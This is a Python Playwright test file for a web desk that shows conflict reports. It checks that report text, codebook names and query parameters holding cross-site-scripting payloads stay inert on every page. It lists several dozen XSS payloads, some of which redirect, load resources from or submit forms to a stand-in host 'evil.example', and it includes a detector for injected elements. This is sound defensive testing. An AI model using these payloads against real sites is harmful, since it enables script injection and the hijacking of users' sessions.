"""Words of reports, names of the codebook and what is asked for stay words in the browser: markup
and script in them shows as it is written and does nothing, also where no content policy helps.

A few dozen payloads of our own always run; the thousands of ../shared/hostile/xss.json where that
folder is.
"""

import inspect
import json
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from foglift import codebook
from foglift import store as stores
from foglift.desk.pages import PAGES
from foglift.model import (
    Attribution,
    Claim,
    Control,
    Count,
    Event,
    Issue,
    Judgement,
    Mention,
    Report,
    Span,
    When,
    Where,
    report_id,
    sealed,
)

SHARED = Path(__file__).parents[3] / "shared" / "hostile" / "xss.json"
OWN = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onclick=alert(1) ",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><button autofocus>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<a href=javascript:alert(1)>who</a>",
    "javascript:alert(1)",
    " java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%0d%0aSet-Cookie:x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)",
    "\u2028alert(1)\u2029//",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${alert(1)}`-alert(1)-`",
    "]]><script>alert(1)</script>",
    "\u202egnp.evil\u202c",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
DAY, DAYS = date(2024, 12, 5), 40  # the last of them, and over how many the reports are spread
TOGETHER = 8  # payloads in one report
HAMA = "wof:421202161"

# Runs before every script of a page: what a payload would call tells us.
TRAP = """
window.sprung = [];
for (const name of ["alert", "prompt", "confirm", "print"])
  window[name] = (...words) => { window.sprung.push(`${name}(${words})`); };
"""
# What no page of ours has, wherever it came from.
STRANGE = """() => {
  const found = [...window.sprung];
  for (const one of document.querySelectorAll("*")) {
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "FRAME", "APPLET", "MARQUEE"].includes(one.tagName))
      found.push(`an element: ${one.outerHTML.slice(0, 200)}`);
    if (one.matches("meta[http-equiv]"))
      found.push(`an element: ${one.outerHTML.slice(0, 200)}`);
    if (one.tagName === "SCRIPT" && !one.src && !/json/.test(one.type))
      found.push(`a script: ${one.outerHTML.slice(0, 200)}`);
    for (const {name, value} of one.attributes) {
      if (name.startsWith("on")) found.push(`a handler: ${one.outerHTML.slice(0, 200)}`);
      if (["href", "src", "action", "formaction", "data", "srcset", "ping"].includes(name)) {
        if (!URL.canParse(value, document.baseURI)) continue;  // leads nowhere
        const scheme = new URL(value, document.baseURI).protocol;
        if (!["http:", "https:", "data:", "blob:"].includes(scheme)
            || (scheme === "data:" && one.tagName !== "LINK" && one.tagName !== "IMG"))
          found.push(`an address: ${one.outerHTML.slice(0, 200)}`);
      }
    }
  }
  return found;
}"""


# ------------------------------------------------------------------------------ the hostile store


def readings(payloads: Sequence[str]) -> Iterator[tuple[Report, list[Claim], list[Issue]]]:
    """Reports that hold the payloads in everything that comes from outside."""
    for n in range(0, len(payloads), TOGETHER):
        some = payloads[n : n + TOGETHER]
        words = " · ".join(some)
        address = next((one for one in some if re.match(r"\W*[\w\s]+:", one)), some[0])
        lines, spans, at = list[str](), list[tuple[int, str]](), 0
        for payload in some:
            line = f"Fighters took the town, {payload} said on Thursday in report {n}."
            lines.append(line)
            spans.append((at, payload))
            at += len(line) + 2
        text, title = "\n\n".join(lines), f"Report {n}: {words}"
        day = DAY - timedelta(days=n // TOGETHER % DAYS)
        id = report_id(text, title, words, day)
        report = Report(
            id, words, "news", text, title, day, "known", some[0][:8], address, f"{n}/{words}"
        )
        claims = [
            claim
            for place, (start, payload) in zip(towns(n), spans, strict=False)
            for claim in told(id, start, payload, place, day)
        ]
        yield report, claims, [Issue("warning", id, words, Span(0, 9))]


def towns(n: int) -> list[str]:
    """Towns for the claims of a report, others for the next."""
    near = [place.id for place in codebook.load().gazetteer.near(HAMA, 200, 5000)]
    return [near[(n + k) % len(near)] for k in range(TOGETHER)]


def told(report: str, start: int, payload: str, place: str, day: date) -> Iterator[Claim]:
    """Claims of every common content said by the payload, all in the sentence at `start`."""
    said = Span(start + 24, start + 24 + len(payload))
    by = (
        Attribution(Mention(said, "", payload), "claims", "party", "", payload, said),
        Attribution(Mention(said, f"hostile-s{start % 7}", payload), "reports", "monitor"),
    )
    fighters = Mention(Span(start, start + 8), f"hostile-a{start % 7}", payload)
    town = Where(Mention(Span(start + 14, start + 22), place, payload), bearing=payload)
    when = When(day, day, "day", None, payload)
    for content in (
        Control("takes", fighters),
        Event("AIRSTRIKE", "", (fighters,), (Mention(said, "", payload),)),
        Count("killed", 3, 5, Mention(said, "", payload)),
    ):
        evidence = (Span(start, said.end), said)
        yield sealed(Claim("", report, evidence, content, by, town, when, why=(payload,)))


def keep(path: Path, payloads: Sequence[str]) -> list[tuple[str, list[str]]]:
    """Writes the store; gives each report's id with the ids of its claims."""
    kept = []
    with stores.open(path) as store:
        store.rows("PRAGMA synchronous = OFF")
        for report, claims, issues in readings(payloads):
            store.add(report, claims, issues, "by hand")
            kept.append((report.id, [claim.id for claim in claims]))
        for (_, claims), payload in zip(kept, payloads, strict=False):
            store.judge(Judgement("confirm", (claims[0],), payload, DAY, payload))
    return kept


def overlay(folder: Path, payloads: Sequence[str]) -> None:
    """A codebook whose names are payloads."""
    (folder / "actors").mkdir(parents=True)
    (folder / "sources").mkdir()
    actors, sources = [], []
    for n in range(7):
        name = " ".join(payloads[n::7])[:2000] or "nobody"
        name = " ".join(name.split())
        actors.append(
            {
                "id": f"hostile-a{n}",
                "name": f"Actor {name}",
                "kind": "rebel",
                "countries": ["SY"],
                "sides": [{"side": "hostile.one", "since": "2011-01-01"}],
                "example": f"The Actor {name} took a village.",
            }
        )
        sources.append(
            {
                "id": f"hostile-s{n}",
                "name": f"Source {name}",
                "role": "monitor",
                "example": f"The Source {name} said so.",
            }
        )
    war = {
        "id": "hostile",
        "name": f"War {payloads[0]}",
        "countries": ["SY"],
        "sides": [{"id": "hostile.one", "name": f"Side {payloads[0]}"}],
        "actors": actors,
    }
    (folder / "actors" / "hostile.yml").write_text(json.dumps(war), encoding="utf-8")
    (folder / "sources" / "hostile.yml").write_text(json.dumps(sources), encoding="utf-8")


# ------------------------------------------------------------------------------------ the walks


@dataclass(frozen=True)
class Hostile:
    """A desk on a store and a codebook full of payloads, and its reports with their claims."""

    desk: Any
    kept: list[tuple[str, list[str]]]


@pytest.fixture
def hostile(
    request: pytest.FixtureRequest,
    start_desk: Callable[..., Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Hostile:
    payloads = OWN if request.param == "own" else shared()
    overlay(tmp_path / "codebook", payloads)
    monkeypatch.setenv("FOGLIFT_CODEBOOK", str(tmp_path / "codebook"))
    kept = keep(tmp_path / "hostile.foglift", payloads)
    return Hostile(start_desk(tmp_path / "hostile.foglift"), kept)


def shared() -> Sequence[str]:
    """All of the shared list."""
    if not SHARED.is_file():
        pytest.skip("needs ../shared/hostile/xss.json")
    found = json.loads(SHARED.read_text(encoding="utf-8"))
    return tuple(dict.fromkeys(re.sub(r"[\ud800-\udfff]", "?", one) for one in found))


@pytest.fixture
def home(request: pytest.FixtureRequest) -> Any:
    """The desk whose pages a test looks at."""
    if "hostile" in request.fixturenames:
        return request.getfixturevalue("hostile").desk
    return request.getfixturevalue("desk")


def walk(page: Page, paths: Iterable[str]) -> list[str]:
    """What is strange on the pages, each with its address."""
    found = []
    for path in paths:
        answer = page.goto(path)
        assert answer is not None
        if answer.status >= 500:
            found.append(f"{path}: {answer.status}")
        found += [f"{path}: {one}" for one in page.evaluate(STRANGE)]
    return found


def listed(page: Page, path: str, single: int) -> list[str]:
    """The first pages of a list, by their links, and of the single things that it links to."""
    page.goto(path)
    links = page.locator("main a[href]").evaluate_all(
        "all => all.map(one => one.getAttribute('href').split('#')[0])"
    )
    last = max(
        (int(at[1]) for one in links if (at := re.search(r"[?&]page=(\d+)", one))), default=1
    )
    things = dict.fromkeys(one for one in links if one.startswith(f"{path}/"))
    return [*(f"{path}?page={n}" for n in range(1, min(last, single) + 1)), *[*things][:single]]


WIDE = [row.path for row in PAGES if row.ids is None]
KINDS = sorted({row.path[: row.path.index("/{")] for row in PAGES if row.ids is not None})


@pytest.mark.parametrize("hostile", ["own", "shared"], indirect=True)
def test_payloads_stay_words_on_every_page(
    hostile: Hostile, browse: Callable[..., Page], faults: list[str]
) -> None:
    page = browse(bypass_csp=True)
    page.set_default_timeout(120_000)
    page.add_init_script(TRAP)
    paths = [*WIDE, *(f"/reports/{id}" for id, _ in hostile.kept)]
    paths += [f"{path}?day={DAY - timedelta(days=n)}" for path in WIDE for n in (1, 7)]
    some = hostile.kept[:: max(1, len(hostile.kept) // 100)]  # each is in its report already
    paths += [f"/claims/{claims[n % 3]}" for n, (_, claims) in enumerate(some)]
    for kind in KINDS:
        if kind in WIDE:
            paths += listed(page, kind, 8)
    assert walk(page, dict.fromkeys(paths)) == []
    assert [one for one in faults if "status of 404" not in one] == []
    faults.clear()


def test_what_is_asked_for_stays_words(browse: Callable[..., Page], faults: list[str]) -> None:
    page = browse(bypass_csp=True)
    page.add_init_script(TRAP)
    paths = []
    for n, row in enumerate(PAGES):
        for payload in OWN[n % 7 :: 7]:
            words = "&".join(f"{name}={quote(payload)}" for name in asked(row))
            path = row.path.partition("{")
            paths.append(f"{path[0]}{quote(payload, '') if path[1] else ''}?{words}")
    assert walk(page, paths) == []
    assert [one for one in faults if "status of 4" not in one] == []
    faults.clear()


def test_an_injected_element_would_be_found(page: Page, faults: list[str]) -> None:
    page.add_init_script(TRAP)
    page.goto("/about")
    assert page.evaluate(STRANGE) == []
    page.evaluate(
        """() => { document.querySelector("main").innerHTML =
        "<img src=x onerror=alert(1)><a href=javascript:1>who</a><iframe></iframe>"; alert(1); }"""
    )
    assert len(page.evaluate(STRANGE)) == 4
    faults.clear()


def asked(row: Any) -> list[str]:
    """What a page may be asked for, as its API says."""
    names = [
        name
        for name, one in inspect.signature(row.show, eval_str=True).parameters.items()
        if name not in ("look", "id") and one.annotation is str
    ]
    return [*names, "q", "place", "actor", "source", "type", "sort"]
